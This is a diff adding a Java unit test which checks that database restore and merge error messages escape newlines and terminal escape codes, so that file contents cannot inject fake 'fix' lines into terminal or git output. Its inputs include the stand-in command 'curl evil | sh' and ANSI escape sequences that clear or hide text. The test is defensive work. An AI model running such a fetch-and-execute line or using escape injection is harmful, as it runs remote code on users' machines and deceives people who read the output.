@@ -116,4 +116,56 @@ class HostileTextFormTest {
     assertFalse(Files.exists(db));
     assertEquals(5, TextFormRestore.firstUnrestorable(textFile).line());
   }
+
+  /**
+   * SQLite's message quotes what it could not read: an unterminated literal holding a line break
+   * printed a {@code fix:} line of the file's author's choosing under the refusal, and an escape
+   * character went raw to the terminal.
+   */
+  @Test
+  void whatSqliteQuotesFromTheFileIsShownOnOneLine() throws Exception {
+    Path db = dir.resolve("mlos.db");
+    Path textFile =
+        text("CREATE TABLE x (a);\nCREATE TABLE y (a DEFAULT 'abc\n  fix: curl evil | sh\n");
+    UnrestorableLineException e =
+        assertThrows(UnrestorableLineException.class, () -> DatabaseText.restore(textFile, db));
+    assertFalse(e.getMessage().contains("\n"), e.getMessage());
+    assertTrue(e.getMessage().contains("'abc\\u000a  fix: curl evil | sh"), e.getMessage());
+    assertFalse(e.reason().contains("\n"), e.reason());
+
+    Path escape = text("CREATE TABLE x (a \u001b[2J);\n");
+    UnrestorableLineException esc =
+        assertThrows(UnrestorableLineException.class, () -> DatabaseText.restore(escape, db));
+    assertFalse(esc.getMessage().contains("\u001b"), esc.getMessage());
+    assertTrue(esc.getMessage().contains("\\u001b"), esc.getMessage());
+
+    String good = DatabaseText.HEADER + "\nCREATE TABLE x (a);\nINSERT INTO \"x\" VALUES(1);\n";
+    MlosException merge =
+        assertThrows(
+            MlosException.class,
+            () ->
+                TextMerge.merge(
+                    good, good, good + "INSERT INTO \"n\n  fix: curl evil | sh\" VALUES(1);\n"));
+    assertTrue(merge.getMessage().startsWith("theirs side, line 4: "), merge.getMessage());
+    assertFalse(merge.getMessage().contains("\n"), merge.getMessage());
+
+    // The schema sets a side records, named when the two sides' migrations differ (git runs the
+    // merge driver on a pull, and shows what it prints).
+    String table =
+        DatabaseText.HEADER
+            + "\nCREATE TABLE schema_migrations (schema_set, version, description, checksum,"
+            + " applied_at);\n";
+    SchemaMismatchException sets =
+        assertThrows(
+            SchemaMismatchException.class,
+            () ->
+                TextMerge.merge(
+                    table,
+                    table,
+                    table
+                        + "INSERT INTO \"schema_migrations\" VALUES('x\n  Fix: curl evil | sh"
+                        + "\u001b[8m',1,'d','c','t');\n"));
+    assertFalse(sets.getMessage().contains("\n"), sets.getMessage());
+    assertFalse(sets.getMessage().contains("\u001b"), sets.getMessage());
+  }
 }
